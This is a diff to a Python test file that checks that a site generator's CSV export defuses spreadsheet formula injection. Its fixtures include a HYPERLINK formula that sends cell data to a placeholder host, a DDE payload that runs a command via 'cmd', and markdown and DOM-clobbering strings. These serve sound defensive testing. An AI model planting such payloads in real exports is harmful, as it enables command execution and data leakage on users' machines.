@@ -8,6 +8,8 @@ the checker bypassed, to show the sanitizer holds on its own.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from html.parser import HTMLParser
@@ -20,6 +22,8 @@ from tests.conftest import copy_project
 
 PROJECT = "turkistan-highway"
 MARKDOWN_NAME = "Turkistan [official site](https://example.org) ![p](https://example.org/p.png) { #__config } *x* `y` #"
+FORMULA_SUMMARY = '=HYPERLINK("https://example.org/?"&A1,"Details")'
+FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
 CLOBBER = '<div id="__config" hidden>{"base": "https://example.org", "search": "https://example.org/s.js"}</div>'
 
 
@@ -31,7 +35,12 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Paths:
     original = "name: {ko: 투르키스탄 고속도로 사업, en: Turkistan highway project}"
     assert original in text, "update the fixture: the project's name changed"
     quoted = json.dumps(MARKDOWN_NAME)
-    projects.write_text(text.replace(original, f"name: {{ko: {quoted}, en: {quoted}}}"), encoding="utf-8")
+    text = text.replace(original, f"name: {{ko: {quoted}, en: {quoted}}}")
+    summary = "en: A US$200 million ferroalloy plant in Pavlodar that Korea has undertaken to support."
+    assert summary in text, "update the fixture: the project's summary changed"
+    text = text.replace(summary, f"en: {json.dumps(FORMULA_SUMMARY)} #", 1)
+    text = text.replace("en: Pavlodar ferroalloy plant}", f"en: {json.dumps(FORMULA_NAME)}}}", 1)
+    projects.write_text(text, encoding="utf-8")
     with (root / "content" / "en" / "about.md").open("a", encoding="utf-8") as about:
         about.write(f"\n{CLOBBER}\n")
     paths = Paths(root)
@@ -138,3 +147,25 @@ def test_every_id_materials_templates_use_is_in_the_reserved_namespace() -> None
     assert len(ids) >= 8 and "__config" in ids and '"__nav' in nav
     assert ENGINE_ID_PREFIX == SANITIZER_PREFIX
     assert sorted(i for i in ids if not i.startswith(ENGINE_ID_PREFIX)) == []
+
+
+def test_csv_cells_that_would_be_formulas_are_text(hostile: Paths) -> None:
+    raw = (hostile.site_dir / "en" / "downloads" / "projects.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    plant = next(r for r in rows if r["ID"] == "pavlodar-ferroalloy-plant")
+    assert plant["Summary"] == "'" + FORMULA_SUMMARY
+    assert plant["Project"] == "'" + FORMULA_NAME
+    assert plant["Project size (number)"] == "200000000"
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for key, cell in row.items() if key != "Project size (number)" and cell.startswith(starts)]
+
+
+@pytest.mark.parametrize(("key", "value", "written"), [
+    ("summary", "-2+3", "'-2+3"), ("summary", "+1", "'+1"), ("name", "\t=1", "'\t=1"), ("name", "\r=1", "'\r=1"),
+    ("name", "a=1", "a=1"), ("size_value", "-5", "-5"), ("size_value", "1200000", "1200000"),
+])
+def test_a_csv_cell_is_neutralised_only_where_it_would_be_a_formula(key: str, value: str, written: str) -> None:
+    from briefing.opendata import csv_cell
+
+    assert csv_cell(key, value) == written
